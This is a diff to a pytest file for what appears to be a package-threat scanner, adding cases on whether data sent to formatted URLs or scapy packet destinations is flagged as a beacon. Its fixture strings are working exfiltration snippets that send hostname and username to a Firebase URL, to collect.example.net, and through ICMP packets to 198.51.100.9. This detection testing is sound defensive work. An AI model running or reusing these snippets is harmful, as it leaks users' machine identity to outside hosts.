@@ -98,3 +98,49 @@ def test_a_url_kept_in_a_constant_given_the_callers_data_stays_clean(tmp_path: P
         "    return requests.get(API + 'dns-query?name=' + name, timeout=5).json()\n"
     )
     assert not tree_danger(tmp_path)
+
+
+# -- blind18: a URL formatted from a constant, a packet's address -----------------------------
+
+#: tune b18-re-firebase-rtdb and -scapy-icmp: host data sent where the destination's fixed
+#: part is the first value of a template (``"%s/hosts/%s.json" % (DB, key)``), or the
+#: address of a packet built in the call (scapy's ``IP(dst=...)``).
+FORMATTED_DESTINATIONS = [
+    "import getpass, socket, uuid, requests\nDB = 'https://t-4f1a2-default-rtdb.firebaseio.com'\n"
+    "def report():\n    key = '%012x' % uuid.getnode()\n"
+    "    rec = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
+    "    requests.put('%s/hosts/%s.json' % (DB, key), json=rec)\nreport()\n",
+    "import platform, requests\nBASE = 'https://collect.example.net'\n"
+    "requests.post('{}/n/{}'.format(BASE, platform.node()), data=platform.platform())\n",
+    "import getpass, socket\nfrom scapy.all import ICMP, IP, Raw, send\n"
+    "data = (socket.gethostname() + getpass.getuser()).encode().hex()\n"
+    "for i in range(0, len(data), 32):\n"
+    "    send(IP(dst='198.51.100.9') / ICMP() / Raw(load=data[i:i + 32]), verbose=0)\n",
+]
+
+
+@pytest.mark.parametrize("source", FORMATTED_DESTINATIONS)
+def test_host_data_sent_to_a_formatted_or_packet_destination_is_a_beacon(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the template's first value is the caller's: no destination written into the code
+        "import platform, requests\n"
+        "def report(base):\n    requests.post('%s/n/%s' % (base, platform.node()))\n",
+        # a packet to the loopback address (a local diagnostic)
+        "import socket\nfrom scapy.all import ICMP, IP, Raw, send\n"
+        "send(IP(dst='127.0.0.1') / ICMP() / Raw(load=socket.gethostname()))\n",
+        # a formatted URL to a fixed host that carries no host data
+        "import requests\nBASE = 'https://api.example.org'\n"
+        "def page(n):\n    return requests.get('%s/items/%d' % (BASE, n)).json()\n",
+    ],
+)
+def test_formatted_and_packet_destinations_without_a_fixed_host_or_host_data_stay_clean(
+    source: str,
+) -> None:
+    assert "CPL-THR-017" not in danger(source)
